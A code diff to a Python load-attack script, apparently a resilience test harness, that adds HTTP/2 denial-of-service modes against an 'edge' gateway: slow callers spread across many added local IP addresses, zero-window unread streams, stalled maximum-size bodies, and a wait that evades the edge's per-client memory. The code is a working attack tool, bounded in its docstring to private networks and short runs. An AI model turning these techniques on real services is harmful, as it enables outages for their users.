@@ -6,6 +6,7 @@ Only addresses of private networks are attacked, for SECONDS at most, and within
 Prints what it did as one line of JSON.
 """
 
+import collections
 import contextlib
 import ipaddress
 import json
@@ -17,12 +18,14 @@ import sys
 import threading
 import time
 
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
-END_STREAM, END_HEADERS = 1, 4
+from h2 import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame, length, literal
+
+CONTINUATION = 9
 CANCEL = struct.pack(">I", 8)
 
 SECONDS_MAX = 60
+# The edge forgets connections after ten seconds.
+FORGOTTEN_SECONDS = 40
 TIMEOUT_SECONDS = 5
 STREAMS_MAX = 400_000
 BYTES_MAX = 1 << 30
@@ -33,29 +36,15 @@ SLOW_STREAMS = 100
 # Each takes half of what one address may have at the edge; together more than the edge has.
 ADDRESSES = 60
 IDLE_PER_ADDRESS = 25
-
-
-def frame(kind, flags, stream, payload=b""):
-    """One frame of HTTP/2 on the wire."""
-    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
-
-
-def literal(name, value):
-    """A header as HPACK writes it when nothing is remembered."""
-    return b"\x00" + length(name) + name + length(value) + value
-
-
-def length(text):
-    """A length as HPACK writes it: seven bits, then seven more at a time."""
-    if len(text) < 127:
-        return bytes((len(text),))
-    rest = len(text) - 127
-    out = bytearray(b"\x7f")
-    while rest >= 128:
-        out.append(0x80 | rest & 0x7F)
-        rest >>= 7
-    out.append(rest)
-    return bytes(out)
+# Each stays below what one address may have, and open in a while; together they want more than the edge has.
+SLOW_ADDRESSES = 30
+SLOW_PER_ADDRESS = 36
+SLOW_OPENED_PER_SECOND = 4
+# Bodies that want for their last byte, as large as a message may be, as many as one system may have under way.
+LARGE_CONNECTIONS = 5
+LARGE_STREAMS = 20
+LARGE_BYTES = 4 << 20
+FRAME_BYTES = 16_384
 
 
 def call(path=b"/dondoc.registry.v1.RegistryService/ListTasks"):
@@ -77,6 +66,7 @@ class Attack:
         self.context.load_cert_chain(f"{certificates}/certificate.pem",
                                      f"{certificates}/certificate.key")
         self.counts = dict.fromkeys(("connections", "refused", "streams", "bytes", "held"), 0)
+        self.streams_by_second = collections.Counter()
         self.lock = threading.Lock()
 
     def count(self, **more):
@@ -84,6 +74,7 @@ class Attack:
         with self.lock:
             for name, value in more.items():
                 self.counts[name] += value
+            self.streams_by_second[int(time.monotonic())] += more.get("streams", 0)
 
     def goes_on(self):
         """Whether there is time and the counts are within bounds."""
@@ -91,13 +82,41 @@ class Attack:
                 and self.counts["bytes"] < BYTES_MAX
                 and self.counts["connections"] < CONNECTIONS_MAX)
 
+    def begin_as_a_stranger(self, seconds):
+        """Begins when the edge lets us in, as it does with whoever has not been here for a while; then it goes on for
+        so long."""
+        patience = time.monotonic() + FORGOTTEN_SECONDS
+        while True:
+            try:
+                with self.open() as connected:
+                    if connected.recv(1):
+                        break
+            except OSError:
+                pass
+            if time.monotonic() > patience:
+                raise SystemExit("the edge does not let us in")
+            # Asking oftener would make it remember.
+            time.sleep(1)
+        self.counts = dict.fromkeys(self.counts, 0)
+        self.streams_by_second.clear()
+        self.deadline = time.monotonic() + min(seconds, SECONDS_MAX)
+
+    def open(self, source="", settings=b""):
+        """A connection that has begun HTTP/2, from one of our addresses."""
+        plain = socket.create_connection(self.address, timeout=TIMEOUT_SECONDS, source_address=(source, 0))
+        self.count(connections=1)
+        try:
+            connected = self.context.wrap_socket(plain, server_hostname="edge")
+            connected.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
+        except BaseException:
+            plain.close()
+            raise
+        return connected
+
     @contextlib.contextmanager
     def connection(self):
-        """A connection that has begun HTTP/2."""
-        plain = socket.create_connection(self.address, timeout=TIMEOUT_SECONDS)
-        self.count(connections=1)
-        with plain, self.context.wrap_socket(plain, server_hostname="edge") as connected:
-            connected.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        """The same, until it is left."""
+        with self.open() as connected:
             yield connected
 
     def send(self, connected, data, streams=0):
@@ -120,6 +139,15 @@ class Attack:
                 self.count(refused=1)
                 # A refused connection costs the attacker a millisecond, as one from afar would.
                 time.sleep(0.001)
+
+
+def in_threads(target, arguments):
+    """Runs the target with each of these arguments at once, to their end."""
+    threads = [threading.Thread(target=target, args=of_one) for of_one in arguments]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
 
 
 def resets(attack):
@@ -193,13 +221,13 @@ def idle(attack):
     attack.counts["held"] = len(held)
 
 
-def more_addresses():
+def more_addresses(count=ADDRESSES):
     """Takes addresses at the end of the container's own network."""
     known = subprocess.run(("ip", "-j", "-4", "addr", "show", "dev", "eth0"), check=True,
                            capture_output=True)
     own = json.loads(known.stdout)[0]["addr_info"][0]
     network = ipaddress.ip_interface(f"{own['local']}/{own['prefixlen']}").network
-    addresses = [str(network.broadcast_address - 1 - number) for number in range(ADDRESSES)]
+    addresses = [str(network.broadcast_address - 1 - number) for number in range(count)]
     for address in addresses:
         subprocess.run(("ip", "addr", "add", f"{address}/{network.prefixlen}", "dev", "eth0"),
                        check=True)
@@ -258,13 +286,96 @@ def slow(attack):
         time.sleep(0.5)
 
     kinds = (in_tls, in_headers, in_bodies)
-    threads = [threading.Thread(
-        target=attack.again_and_again, args=(lambda once=kinds[number % 3]: slowly(once),))
-        for number in range(SLOW_CONNECTIONS)]
-    for thread in threads:
-        thread.start()
-    for thread in threads:
-        thread.join()
+    in_threads(attack.again_and_again,
+               [(lambda once=kinds[number % 3]: slowly(once),) for number in range(SLOW_CONNECTIONS)])
+
+
+class SlowCaller:
+    """One of many at one address, slow in one of five ways."""
+
+    # Bytes of TLS, of headers and of a body one at a time; answers that nobody reads; calls long past.
+    WAYS = ("tls", "headers", "body", "unread", "past")
+
+    def __init__(self, attack, source, way):
+        self.attack = attack
+        self.way = way
+        # No byte of a body may come back before we say so, which we do not.
+        settings = struct.pack(">HI", 4, 0) if way == "unread" else b""
+        if way == "tls":
+            self.socket = socket.create_connection(attack.address, timeout=TIMEOUT_SECONDS, source_address=(source, 0))
+            attack.count(connections=1)
+        else:
+            self.socket = attack.open(source, settings)
+        self.rest = b"\x16\x03\x01\x02\x00" * 100 if way == "tls" else frame(HEADERS, END_HEADERS, 1, call())
+        if way == "body":
+            self._send(self.rest)
+            self.rest = frame(DATA, 0, 1, b"\x00") * 1_000
+        elif way == "unread":
+            self.socket.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, call())
+                                         + frame(DATA, END_STREAM, stream, bytes(5)) for stream in (1, 3, 5)))
+        elif way == "past":
+            self._send(frame(HEADERS, END_HEADERS | END_STREAM, 1, call(b"/dondoc.nowhere.v1.NoService/Nothing")))
+
+    def _send(self, data):
+        self.attack.send(self.socket, data, streams=1)
+
+    def drip(self):
+        """Says the next byte. OSError when the edge has hung up."""
+        if self.way in ("tls", "headers", "body"):
+            size = len(frame(DATA, 0, 1, b"\x00")) if self.way == "body" else 1
+            data, self.rest = self.rest[:size], self.rest[size:]
+            self.attack.send(self.socket, data)
+        elif self.way == "past":
+            self.attack.send(self.socket, b"")
+
+
+def slow_from_many(attack):
+    """Slow callers from many addresses at once, each below what one address may."""
+    def of_one(source):
+        held, opened = [], 0
+        began = time.monotonic()
+        while attack.goes_on():
+            if len(held) < SLOW_PER_ADDRESS and opened < SLOW_OPENED_PER_SECOND * (time.monotonic() - began):
+                opened += 1
+                try:
+                    held.append(SlowCaller(attack, source, SlowCaller.WAYS[opened % len(SlowCaller.WAYS)]))
+                except OSError:
+                    attack.count(refused=1)
+                continue
+            for caller in held[:]:
+                try:
+                    caller.drip()
+                except OSError:
+                    attack.count(refused=1)
+                    caller.socket.close()
+                    held.remove(caller)
+            time.sleep(0.5)
+        attack.count(held=len(held))
+
+    in_threads(of_one, [(source,) for source in more_addresses(SLOW_ADDRESSES)])
+
+
+def large_bodies(attack):
+    """Messages as large as any may be, all but the last byte of each."""
+    head = b"\x00" + struct.pack(">I", LARGE_BYTES)
+    rest = bytes(LARGE_BYTES - 1)
+    chunks = [rest[at:at + FRAME_BYTES - 5] for at in range(0, len(rest), FRAME_BYTES - 5)]
+
+    def once():
+        with attack.connection() as connected:
+            streams = range(1, 2 * LARGE_STREAMS, 2)
+            for stream in streams:
+                attack.send(connected, frame(HEADERS, END_HEADERS, stream, call()) + frame(DATA, 0, stream, head)
+                            + b"".join(frame(DATA, 0, stream, chunk) for chunk in chunks[:2]), streams=1)
+            for stream in streams:
+                for chunk in chunks[2:]:
+                    attack.send(connected, frame(DATA, 0, stream, chunk))
+            attack.count(held=LARGE_STREAMS)
+            while attack.goes_on():
+                attack.send(connected, b"")
+                time.sleep(0.5)
+
+    in_threads(attack.again_and_again, [(once,)] * LARGE_CONNECTIONS)
 
 
 KINDS = {
@@ -274,14 +385,17 @@ KINDS = {
     "idle": idle,
     "idle-from-many": idle_from_many,
     "slow": slow,
+    "slow-from-many": slow_from_many,
+    "large": large_bodies,
 }
 
 
 def main(kind, host, port, seconds, certificates):
     """Attacks, and tells."""
     attack = Attack(host, int(port), float(seconds), certificates)
+    attack.begin_as_a_stranger(float(seconds))
     KINDS[kind](attack)
-    print(json.dumps(attack.counts))
+    print(json.dumps({**attack.counts, "streams_in_a_second": max(attack.streams_by_second.values(), default=0)}))
 
 
 if __name__ == "__main__":
